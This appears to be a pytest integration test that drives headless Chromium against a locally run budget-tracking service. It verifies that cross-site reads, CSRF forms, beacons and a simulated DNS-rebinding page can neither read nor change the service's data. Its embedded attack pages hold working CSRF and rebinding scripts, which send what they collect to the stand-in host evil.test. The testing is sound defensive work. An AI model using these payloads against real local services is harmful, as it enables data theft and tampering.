"""Pages of others in a real browser, against a service without API keys on the same machine: they read nothing and change nothing."""

from __future__ import annotations

import http.client
import json
import os
import shutil
import socket
import sys
import threading
from collections.abc import Iterator
from contextlib import closing, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from service.config import Settings, to_env
from service.container import build_context
from tests.integration.test_nginx import running
from tests.integration.test_serve import ROOT, spaced_in, status
from tests.support.patience import PATIENT_GUNICORN
from tests.support.servers import DEADLINE_S, missing, wait_for

SECRET = "budget nobody else may see"
PLANTED = "planted"
PROGRAM = json.dumps({"name": PLANTED, "budget_usd": 1})
EVIL, REBOUND = "evil.test", "rebound.test"
ATTACKS = """<script>
const service = "http://127.0.0.1:%(port)d", body = %(body)s, report = {};
const plain = {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body};
const attempt = async (name, url, options) => {
  try { report[name] = await (await fetch(url, options)).text(); } catch (error) { report[name] = "failed: " + error; }
};
const sendForm = () => new Promise(done => {
  const frame = document.createElement("iframe"), form = document.body.appendChild(document.createElement("form"));
  frame.name = "answer";
  document.body.appendChild(frame);
  frame.onload = done;
  Object.assign(form, {target: "answer", method: "POST", enctype: "text/plain", action: service + "/v1/track/programs"});
  const field = form.appendChild(document.createElement("input"));
  [field.name, field.value] = ['{"name": "planted", "budget_usd": 1, "x": "', '"}'];
  form.submit();
});
const attack = async () => {
  await attempt("read", service + "/v1/track/programs");
  await attempt("read of localhost", service.replace("127.0.0.1", "localhost") + "/v1/track/programs");
  await attempt("no-cors program", service + "/v1/track/programs", plain);
  await attempt("no-cors import", service + "/v1/track/imports?kind=sacct", plain);
  await attempt("json program", service + "/v1/track/programs", {...plain, mode: "cors", headers: {"Content-Type": "application/json"}});
  await sendForm();
  navigator.sendBeacon(service + "/v1/track/programs", body);
  await fetch("/report/evil", {method: "POST", body: JSON.stringify(report)});
  document.body.appendChild(document.createElement("iframe")).src = "http://rebound.test:%(port)d/";
};
onload = attack;
</script><body></body>"""
REBOUND_PAGE = """<script>
const report = {}, body = %(body)s;
const attempt = async (name, url, options) => {
  try { report[name] = await (await fetch(url, options)).text(); } catch (error) { report[name] = "failed: " + error; }
};
const attack = async () => {
  await attempt("read", "/v1/track/programs");
  await attempt("write", "/v1/track/programs", {method: "POST", headers: {"Content-Type": "application/json"}, body});
  await fetch("http://evil.test:%(evil)d/report/rebound", {method: "POST", mode: "no-cors", body: JSON.stringify(report)});
};
onload = attack;
</script>"""


class Attacker(ThreadingHTTPServer):
    """Serves the attacking page, and takes what its scripts found out."""

    daemon_threads = True

    def __init__(self, service_port: int) -> None:
        super().__init__(("127.0.0.1", 0), _Pages)
        self.reports: dict[str, dict[str, str]] = {}
        self.page = ATTACKS % {"port": service_port, "body": json.dumps(PROGRAM)}


class _Pages(BaseHTTPRequestHandler):
    server: Attacker

    def do_GET(self) -> None:
        self._answer(self.server.page.encode())

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.server.reports[self.path.rpartition("/")[2]] = json.loads(body)
        self._answer(b"")

    def log_message(self, *_arguments: object) -> None:
        """Say nothing."""

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


class Rebinding:
    """What a name leads to whose owner changes its address: first to the attacker's page, then to the service."""

    def __init__(self, service_port: int, evil_port: int) -> None:
        self._service = service_port
        self._page = (REBOUND_PAGE % {"body": json.dumps(PROGRAM), "evil": evil_port}).encode()
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listener.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def close(self) -> None:
        """Take no more connections."""
        self._listener.close()

    def _serve(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._listener.accept()
                threading.Thread(target=self._answer, args=(connection,), daemon=True).start()

    def _answer(self, connection: socket.socket) -> None:
        with connection, suppress(OSError):
            request = connection.recv(65536)
            if request.startswith(b"GET / "):
                head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(self._page)}\r\nConnection: close\r\n\r\n"
                connection.sendall(head.encode() + self._page)
            elif request:
                self._forward(connection, request)

    def _forward(self, connection: socket.socket, request: bytes) -> None:
        with socket.create_connection(("127.0.0.1", self._service)) as service:
            service.sendall(request.replace(b"Connection: keep-alive", b"Connection: close", 1))
            while answer := service.recv(65536):
                connection.sendall(answer)


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Settings]:
    """A service without keys that has a program."""
    settings = spaced_in(tmp_path)
    with closing(build_context(settings).store) as store:
        settings.data_dir.mkdir()
        store.migrate()
    command = [sys.executable, *PATIENT_GUNICORN]
    env = {**os.environ, **to_env(settings), "OUTLAY_DRAIN_SECONDS": "0", "PYTHONPATH": str(ROOT)}
    with running(command, tmp_path, env):
        wait_for(lambda: status(settings, "/healthz") == 200, "the service to answer")
        assert _ask(settings, "POST", json.dumps({"name": SECRET, "budget_usd": 1}))[0] == 201
        yield settings


def _ask(settings: Settings, method: str, body: str | None = None) -> tuple[int, str]:
    with closing(http.client.HTTPConnection("127.0.0.1", settings.port, timeout=DEADLINE_S)) as connection:
        connection.request(method, "/v1/track/programs", body, {"Content-Type": "application/json"})
        answer = connection.getresponse()
        return answer.status, answer.read().decode()


def refusals(folder: Path, status: int) -> int:
    """How many answers of that status the service has logged."""
    return (folder / "log").read_text(errors="replace").count(f'"status":{status}')


def test_a_browser_gives_no_page_access(served: Settings, tmp_path: Path) -> None:
    """Reads, simple requests, forms and beacons of another site, and a name that is bound again to this machine."""
    chromium = shutil.which("chromium") or missing("Chromium")
    attacker = Attacker(served.port)
    threading.Thread(target=attacker.serve_forever, daemon=True).start()
    evil_port = attacker.server_address[1]
    rebinding = Rebinding(served.port, evil_port)
    rules = f"MAP {EVIL} 127.0.0.1,MAP {REBOUND} 127.0.0.1:{rebinding.port}"
    command = [
        str(chromium),
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--no-proxy-server",
        "--no-first-run",
        "--disable-dev-shm-usage",
    ]
    command += [f"--user-data-dir={tmp_path / 'profile'}", f"--host-resolver-rules={rules}", "--disable-dev-shm-usage"]
    with closing(rebinding), running([*command, f"http://{EVIL}:{evil_port}/"], tmp_path, dict(os.environ)):
        wait_for(lambda: attacker.reports.keys() == {"evil", "rebound"}, "the reports of both pages")
    attacker.shutdown()
    attacker.server_close()
    assert SECRET not in json.dumps(attacker.reports)
    found = _ask(served, "GET")[1]
    assert (SECRET in found, PLANTED in found) == (True, False)
    wait_for(lambda: refusals(tmp_path, 403) >= 3 and refusals(tmp_path, 421) >= 2, f"the refusals in the log of {attacker.reports}")
    assert "421" in attacker.reports["rebound"]["read"]
